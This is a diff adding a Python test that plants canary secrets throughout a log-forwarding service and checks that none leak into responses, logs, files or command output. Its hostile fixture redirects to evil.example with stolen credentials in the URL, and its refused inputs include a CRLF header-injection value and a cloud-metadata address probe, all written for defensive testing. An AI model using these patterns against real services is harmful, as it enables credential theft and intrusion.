@@ -1,0 +1,440 @@
+"""Secrets are planted wherever a secret can go; afterwards nothing that the service wrote, said or shows has one of them."""
+
+import base64
+import os
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from support.canaries import Found, canary, command_lines, environments, files_below, leaks
+from support.processes import ServiceGroup, children, free_port, kill, make_events, service_group
+from support.service import service_environment, wait_until
+
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]
+
+# ── a receiver that gives everything back ──
+
+
+@dataclass
+class EchoingReceiver:
+    """Answers what the path asks for, and repeats the request's head wherever an answer has room for it."""
+
+    port: int
+    requests: int = 0
+    heads: list[bytes] = field(default_factory=list)
+
+    def answer(self, head: bytes) -> bytes:
+        """Return the bytes of an answer."""
+        target = head.split(b" ", 2)[1]
+        secret = b" ".join(
+            line.partition(b": ")[2]
+            for line in head.split(b"\r\n")
+            if line.lower().startswith((b"auth", b"x-key"))
+        )
+        told = head + secret
+        if b"ok" in target:
+            return b"HTTP/1.1 202 Accepted\r\nContent-Length: %d\r\n\r\n%s" % (len(told), told)
+        if b"redirect" in target:
+            place = b"https://evil.example/?stolen=" + target + secret.replace(b" ", b"+")
+            return b"HTTP/1.1 307 Moved\r\nLocation: %s\r\nContent-Length: 0\r\n\r\n" % place
+        if b"garbage" in target:
+            return told
+        headers = b"Retry-After: %s\r\nWWW-Authenticate: %s\r\nX-Echo: %s\r\n" % (secret, secret, target)
+        status = b"413" if b"poison" in target else b"500"
+        return b"HTTP/1.1 %s %s\r\n%sContent-Length: %d\r\n\r\n%s" % (
+            status,
+            secret or target,
+            headers,
+            len(told),
+            told,
+        )
+
+
+@contextmanager
+def echoing_receiver() -> Iterator[EchoingReceiver]:
+    """Run a receiver that repeats credentials; one request a connection."""
+    listener = socket.create_server(("127.0.0.1", 0), backlog=1024)
+    receiver = EchoingReceiver(listener.getsockname()[1])
+
+    def serve(one: socket.socket) -> None:
+        with one, one.makefile("rb") as reader:
+            lines = [reader.readline(65_536)]
+            if not lines[0].startswith(b"POST "):
+                return  # a TLS handshake, or nothing
+            while lines[-1] not in (b"\r\n", b""):
+                lines.append(reader.readline(65_536))
+            length = next(
+                (int(line[15:]) for line in lines if line.lower().startswith(b"content-length:")), 0
+            )
+            reader.read(length)
+            receiver.requests += 1
+            one.sendall(receiver.answer(b"".join(lines[:-1])))
+
+    def accept() -> None:
+        while True:
+            try:
+                one, _ = listener.accept()
+            except OSError:
+                return
+            one.settimeout(10)
+            threading.Thread(target=_quietly, args=(serve, one), daemon=True).start()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    try:
+        yield receiver
+    finally:
+        listener.shutdown(socket.SHUT_RDWR)
+        listener.close()
+        thread.join(5)
+
+
+def _quietly(serve: Any, one: socket.socket) -> None:
+    """Serve a connection; a peer that is gone is no failure of the test."""
+    try:
+        serve(one)
+    except OSError:
+        one.close()
+
+
+# ── a caller that remembers every answer ──
+
+
+@dataclass
+class Caller:
+    """Makes calls and keeps what was answered; keys that an answer shows once are planted from then on."""
+
+    group: ServiceGroup
+    planted: dict[str, str | bytes]
+    http: httpx.Client
+    answers: list[Found] = field(default_factory=list)
+    statuses: set[int] = field(default_factory=set)
+    key: str = ""
+    org_id: str = "org_canary"
+
+    def call(
+        self, method: str, path: str, *, key: str | None = "", shown_once: str = "", **options: Any
+    ) -> httpx.Response:
+        """Make a call with our key, another one, or None; `shown_once` names the field of the answer that is a new key."""
+        headers = {} if key is None else {"Authorization": f"Bearer {key or self.key}"}
+        answer = self.http.request(
+            method, self.group.url + path, headers=headers | options.pop("headers", {}), **options
+        )
+        content = answer.content
+        if shown_once and answer.is_success:
+            text = answer.json()[shown_once]
+            self.planted[f"API key {len(self.planted)}"] = text
+            content = content.replace(text.encode(), b"")
+        self.statuses.add(answer.status_code)
+        self.answers.append(
+            (
+                f"{method} {path.partition('?')[0]} → {answer.status_code}",
+                content + repr(answer.headers).encode(),
+            )
+        )
+        return answer
+
+    def organization(self, method: str, path: str, **options: Any) -> httpx.Response:
+        """Make a call below the organization."""
+        return self.call(method, f"/api/orgs/{self.org_id}{path}", **options)
+
+
+def command(group: ServiceGroup, *arguments: str, **environment: str) -> Found:
+    """Run a command beside the service; returns what it printed."""
+    done = subprocess.run(
+        [sys.executable, "-m", "aegis_stream", *arguments],
+        env=service_environment(group.tmp_path, **group.environment, **environment),
+        capture_output=True,
+        check=False,
+        timeout=60,
+    )
+    return f"aegis {' '.join(arguments)}", done.stdout + done.stderr
+
+
+# ── what is done with them ──
+
+
+def make_destinations(caller: Caller, receiver: EchoingReceiver) -> list[str]:
+    """Make a destination for each way to fail and one that does not, with a credential in the header or in the URL."""
+    base, made = f"http://127.0.0.1:{receiver.port}", []
+    retry = {"max_attempts": 2, "base_seconds": 0.05, "multiplier": 1, "max_seconds": 1}
+
+    def add(url: str, what: str, **fields: Any) -> None:
+        answer = caller.organization(
+            "POST", "/forwarding-destinations", json={"url": url, "name": what, "retry": retry} | fields
+        )
+        assert answer.status_code == 201, answer.text
+        made.append(answer.json()["id"])
+
+    for what in ("ok", "failing", "poison", "redirect", "garbage"):
+        caller.planted[f"header value, {what}"] = value = canary()
+        add(f"{base}/{what}", what, auth_header_name="Authorization", auth_header_value=f"Bearer {value}")
+        caller.planted[f"path, {what}"], caller.planted[f"query, {what}"] = path, query = canary(), canary()
+        add(f"{base}/{what}/{path}/in?token={query}&x=1", what)
+    caller.planted["header value, bare"] = value = canary()
+    add(f"{base}/failing", "bare", auth_header_name="X-Key", auth_header_value=value)
+    for what, place in (
+        ("closed port", f"http://127.0.0.1:{free_port()}"),
+        ("no TLS", f"https://127.0.0.1:{receiver.port}"),
+        ("no name", "https://nowhere.invalid"),
+    ):
+        caller.planted[f"path, {what}"], caller.planted[f"query, {what}"] = path, query = canary(), canary()
+        add(f"{place}/x/{path}/in?token={query}&x=1", what)
+    return made
+
+
+def try_what_is_refused(caller: Caller, dst_id: str) -> None:
+    """Write destinations that are refused, each with a secret in it, and make calls with secrets that open nothing."""
+    good = {"url": "https://siem.example.com/in", "auth_header_name": "Authorization"}
+    cases: dict[str, Any] = {
+        "userinfo, password": lambda c: {"url": f"https://user:{c}@siem.example.com/"},
+        "userinfo, name": lambda c: {"url": f"https://{c}@siem.example.com/"},
+        "fragment": lambda c: {"url": f"https://siem.example.com/x#{c}"},
+        "wrong port": lambda c: {"url": f"https://siem.example.com:22/x/{c}?t={c}"},
+        "forbidden address": lambda c: {"url": f"https://169.254.169.254/x/{c}?t={c}"},
+        "wrong scheme": lambda c: {"url": f"ftp://siem.example.com/x/{c}"},
+        "backslash": lambda c: {"url": f"https://siem.example.com\\{c}"},
+        "too long": lambda c: {"url": f"https://siem.example.com/x/{c * 60}"},
+        "line break": lambda c: {"auth_header_value": f"Bearer {c}\r\nHost: x"},
+        "not ASCII": lambda c: {"auth_header_value": f"Bearer {c} é"},
+        "value as name": lambda c: {"auth_header_name": f"Bearer {c}", "auth_header_value": "x"},
+        "value without name": lambda c: {"auth_header_name": None, "auth_header_value": c},
+        "a list": lambda c: {"auth_header_value": [c]},
+        "an object": lambda c: {"auth_header_value": {c: c}},
+        "private key as certificate": lambda c: {
+            "ca_certificate": f"-----BEGIN PRIVATE KEY-----\n{c}\n-----END PRIVATE KEY-----"
+        },
+        "unknown field": lambda c: {"password": c},
+    }
+    for what, make in cases.items():
+        caller.planted[what] = secret = canary()
+        body = good | {"auth_header_value": "Bearer x"} | make(secret)
+        for method, path in (
+            ("POST", "/forwarding-destinations"),
+            ("PATCH", f"/forwarding-destinations/{dst_id}"),
+        ):
+            answer = caller.organization(method, path, json=body)
+            assert answer.status_code in (400, 422), (what, answer.text)
+    caller.planted["broken JSON"] = secret = canary()
+    for content in (b'{"auth_header_value": "%s"', b'{"auth_header_value": %s}', b"\xff%s", b'["%s"]'):
+        for path in ("/forwarding-destinations", "/events", "/api-keys"):
+            json_type = {"Content-Type": "application/json"}
+            answer = caller.organization("POST", path, content=content % secret.encode(), headers=json_type)
+            assert answer.status_code in (400, 422), answer.text
+    caller.planted["wrong key"] = wrong = canary()
+    for headers in (
+        {"Authorization": f"Bearer aegis_sk_{wrong}"},
+        {"Authorization": f"Basic {base64.b64encode(wrong.encode()).decode()}"},
+        {"Authorization": wrong},
+        {"X-Api-Key": wrong},
+    ):
+        for path in ("", "/events", "/forwarding-destinations"):
+            assert caller.organization("GET", path, key=None, headers=headers).status_code == 401
+        assert (
+            caller.call("POST", "/api/orgs", key=None, headers=headers, json={"name": "x"}).status_code == 401
+        )
+    caller.organization("GET", f"/events?api_key={wrong}&limit={wrong}&cursor={wrong}")
+
+
+def make_every_call(caller: Caller, ids: dict[str, str]) -> int:
+    """Make every call that the OpenAPI document has, with a good key, a bad one and none; returns how many there are."""
+    paths = caller.call("GET", "/openapi.json", key=None).json()["paths"]
+    calls = [(method.upper(), path) for path, methods in paths.items() for method in methods]
+    order = {"GET": 0, "POST": 1, "PATCH": 2, "PUT": 2, "DELETE": 3}
+    for method, path in sorted(calls, key=lambda one: order[one[0]]):
+        filled = path
+        for name, value in ids.items():
+            filled = filled.replace(f"{{{name}}}", value)
+        filled = filled.replace("{", "").replace("}", "")
+        for key in (None, f"aegis_sk_{canary()}", ""):
+            body = {"json": {}} if method in ("POST", "PATCH", "PUT") else {}
+            shown = "api_key" if "api-keys" in path and method == "POST" else ""
+            caller.call(method, filled, key=key, shown_once=shown, **body)
+    return len(calls)
+
+
+def deliver(caller: Caller, receiver: EchoingReceiver, first: int) -> None:
+    """Record events and wait until every destination has failed or delivered them, dead letters and all."""
+    answer = caller.organization(
+        "POST", "/events", content=b"[" + b",".join(make_events(caller.org_id, first, 3).values()) + b"]",
+        headers={"Content-Type": "application/json"},
+    )  # fmt: skip
+    assert answer.status_code == 202, answer.text
+    behind = "SELECT count(*) FROM cursors c JOIN organizations o ON o.org_no = c.org_no WHERE c.failures_in_row = 0 AND c.cursor < o.head"
+    wait_until(lambda: caller.group.rows(behind) == [(0,)], seconds=60)
+
+
+def look_at_everything(caller: Caller, made: list[str]) -> None:
+    """Read whatever can be read, and press every button."""
+    for dst_id in made:
+        path = f"/forwarding-destinations/{dst_id}"
+        for one in ("", "/deliveries", "/dead-letters", "/replays"):
+            assert caller.organization("GET", path + one).status_code == 200
+        assert caller.organization("POST", path + "/test").status_code == 200
+        caller.organization("POST", path + "/dead-letters/redrive", json={})
+        caller.organization("POST", path + "/replay", json={"from_sequence": 1})
+        caller.organization("POST", path + "/pause")
+        caller.organization("POST", path + "/resume")
+    for path in ("/metrics", "/healthz", "/readyz", "/docs", "/openapi.json", "/nothing/here"):
+        caller.call("GET", path, key=None)
+    caller.organization("GET", "/forwarding-destinations")
+    caller.organization("GET", "/events")
+
+
+def places(group: ServiceGroup, pids: list[int]) -> list[Found]:
+    """Return all that lies around at this moment: files, logs, command lines."""
+    folder = group.tmp_path / "data"
+    return [
+        *files_below(folder, but=frozenset({"master.key"})),
+        ("log", (group.tmp_path / "service.log").read_bytes()),
+        *command_lines(),
+    ]
+
+
+def service_pids(group: ServiceGroup) -> list[int]:
+    """Return the service and its workers."""
+    return [group.pid, *children(group.pid)]
+
+
+def test_no_secret_is_anywhere(tmp_path: Path):
+    """After every call, every failure, echoing receivers, a crash, a rotation and debug logs, no planted secret is found in files, logs, answers, metrics, documents, process lists or printed settings."""
+    operator = f"aegis_op_{canary()}"
+    planted: dict[str, str | bytes] = {"operator key": operator}
+    environment = {
+        "AEGIS_LOG_LEVEL": "debug",
+        "AEGIS_OPERATOR_KEY": operator,
+        "AEGIS_REQUEST_TIMEOUT_SECONDS": "2",
+    }
+    seen: list[Found] = []
+    with (
+        service_group(tmp_path, **environment) as group,
+        echoing_receiver() as receiver,
+        httpx.Client(trust_env=False, verify=False, timeout=30) as http,
+    ):
+        group.start()
+        caller = Caller(group, planted, http)
+        plant_master_keys(planted, tmp_path)
+        make_organization(caller, operator)
+        made = make_destinations(caller, receiver)
+        try_what_is_refused(caller, made[0])
+        deliver(caller, receiver, 1)
+        look_at_everything(caller, made)
+        seen += places(group, service_pids(group))
+        # What was given by a variable stands in the environment by the operator's own doing; nothing else may.
+        seen_in_environments = list(environments(service_pids(group)))
+
+        kill(group.worker_pid())
+        group.kill()
+        seen += places(group, [])
+        seen.append(command(group, "vault", "rotate"))
+        plant_master_keys(planted, tmp_path)
+        group.environment["AEGIS_LOG_FORMAT"] = "console"
+        group.environment["AEGIS_MASTER_KEY"] = ",".join(
+            (tmp_path / "data" / "master.key").read_text().split()
+        )
+        group.start()
+        deliver(caller, receiver, 11)
+        look_at_everything(caller, made)
+        ids = {
+            "org_id": caller.org_id,
+            "destination_id": made[0],
+            "event_id": "evt_000001",
+            "key_id": "key_x",
+            "replay_id": "rpl_x",
+        }
+        count = make_every_call(caller, ids)
+        by_variable = {"AEGIS_API_KEY": caller.key, "AEGIS_ORG": caller.org_id, "AEGIS_URL": group.url}
+        seen += [
+            command(group, "serve", "--print-config"),
+            command(group, "serve", "--print-config", "--json"),
+            command(group, "destination", "list", "--json", **by_variable),
+            command(group, "destination", "test", made[1], **by_variable),
+            command(group, "key", "list", "--org", caller.org_id),
+            command(group, "doctor"),
+            command(group, "doctor", "--json", "--egress"),
+            command(group, "vault", "rotate", "--drop-old"),
+        ]
+        seen += places(group, service_pids(group))
+        assert group.terminate() == 0
+        seen += places(group, [])
+
+    assert count > 20
+    assert {200, 201, 202, 401, 404, 422} <= caller.statuses
+    assert receiver.requests > len(made)
+    assert len(planted) > 40
+    assert sorted({*leaks(planted, seen + caller.answers)}) == []
+    assert (
+        leaks({name: text for name, text in planted.items() if name != "operator key"}, seen_in_environments)
+        == []
+    )
+
+
+def make_organization(caller: Caller, operator: str) -> None:
+    """Make the organization and its keys; all of them are planted."""
+    body = {"name": "Canary", "id": caller.org_id}
+    answer = caller.call("POST", "/api/orgs", key=operator, shown_once="api_key", json=body)
+    caller.key = answer.json()["api_key"]
+    for scope in ("ingest", "read"):
+        made = caller.organization(
+            "POST", "/api-keys", json={"name": scope, "scope": scope}, shown_once="api_key"
+        )
+        caller.organization("POST", f"/api-keys/{made.json()['id']}/rotate", json={}, shown_once="api_key")
+
+
+def plant_master_keys(planted: dict[str, str | bytes], tmp_path: Path) -> None:
+    """Plant the bytes of the master keys as they are now."""
+    for number, text in enumerate((tmp_path / "data" / "master.key").read_text().split()):
+        planted[f"master key {len(planted)}.{number}"] = base64.b64decode(text)
+
+
+# ── starts that fail ──
+
+
+@pytest.mark.parametrize(
+    ("variable", "text"),
+    [
+        ("AEGIS_MASTER_KEY", "{c}"),
+        ("AEGIS_MASTER_KEY", "{good},{c}"),
+        ("AEGIS_OPERATOR_KEY", "{c}"),
+        ("AEGIS_DATABASE_URL", "postgresql://user:{c}@db.example/aegis"),
+        ("AEGIS_CONFIG", "master_key = {c}"),
+        ("AEGIS_CONFIG", 'master_key = "{c}'),
+        ("AEGIS_CONFIG", 'master_key = ["{c}"]'),
+        ("AEGIS_CONFIG", 'operator_key = {{x = "{c}"}}'),
+        ("AEGIS_CONFIG", 'operator_key = "{c}"'),
+    ],
+)
+def test_a_start_that_is_refused_repeats_no_secret(tmp_path, variable, text):
+    """A wrong key in a variable or in the file stops the start with a line that names it, and does not repeat it."""
+    secret = canary()
+    content = text.format(c=secret, good=base64.b64encode(os.urandom(32)).decode())
+    if variable == "AEGIS_CONFIG":
+        (tmp_path / "aegis.toml").write_text(content)
+        content = str(tmp_path / "aegis.toml")
+
+    variables = service_environment(tmp_path) | {variable: content}
+    if "operator_key" in text:
+        del variables["AEGIS_OPERATOR_KEY"]  # it would go before the file
+
+    done = subprocess.run(
+        [sys.executable, "-m", "aegis_stream", "serve", "--port", "0"],
+        env=variables,
+        capture_output=True,
+        check=False,
+        timeout=60,
+    )
+
+    assert done.returncode == 1
+    assert len(done.stderr.splitlines()) == 1
+    assert (
+        leaks({"secret": secret}, [("standard error", done.stderr), ("standard output", done.stdout)]) == []
+    )
